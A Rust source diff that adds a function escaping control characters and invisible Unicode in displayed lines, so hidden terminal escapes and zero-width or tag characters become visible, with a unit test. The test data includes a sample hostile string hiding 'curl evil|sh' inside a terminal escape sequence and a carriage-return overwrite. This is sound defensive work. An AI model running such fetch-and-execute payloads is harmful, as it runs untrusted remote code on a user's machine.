@@ -16,7 +16,7 @@ use ralph_state::{
 use ralph_system::proc::is_below_a_run;
 use ralph_text::{
     console::{self, complain, print, warn},
-    one_line,
+    escape_name, one_line,
 };
 use ralph_words::{agent_command_in_words, counted};
 
@@ -267,8 +267,27 @@ fn in_words(changes: &[OwnFileChange], extent: DisplayExtent) -> String {
     text
 }
 
+/// Writes a line so that everything in it is seen: an agent also reads what a terminal would obey or not show.
+fn visible(line: &str) -> String {
+    let mut text = String::with_capacity(line.len());
+    for character in escape_name(line).chars() {
+        match character {
+            // Characters without width, and those that only mark others or stand for languages.
+            '\u{ad}'
+            | '\u{200b}'..='\u{200f}'
+            | '\u{2060}'..='\u{2064}'
+            | '\u{fe00}'..='\u{fe0f}'
+            | '\u{e0000}'..='\u{e01ef}' => {
+                text.extend(character.escape_unicode());
+            }
+            _ => text.push(character),
+        }
+    }
+    text
+}
+
 fn line_in_words(line: &str, extent: DisplayExtent) -> String {
-    let line = one_line(line);
+    let line = visible(line);
     let length = line.chars().count();
     match extent {
         DisplayExtent::Short if length > COLUMNS => {
@@ -280,3 +299,21 @@ fn line_in_words(line: &str, extent: DisplayExtent) -> String {
 }
 
 const WRITES: &str = "a string takes every write";
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_a_terminal_would_not_show_of_a_line_is_shown() {
+        for (line, shown) in [
+            ("Work.", "Work."),
+            ("a\u{1b}]0;curl evil|sh\u{7}b", "a\\u{1b}]0;curl evil|sh\\u{7}b"),
+            ("run evil\rWork.", "run evil\\u{d}Work."),
+            ("a\u{200b}b\u{e0061}", "a\\u{200b}b\\u{e0061}"),
+            ("größer 😀", "größer 😀"),
+        ] {
+            assert_eq!(line_in_words(line, DisplayExtent::Whole), shown);
+        }
+    }
+}
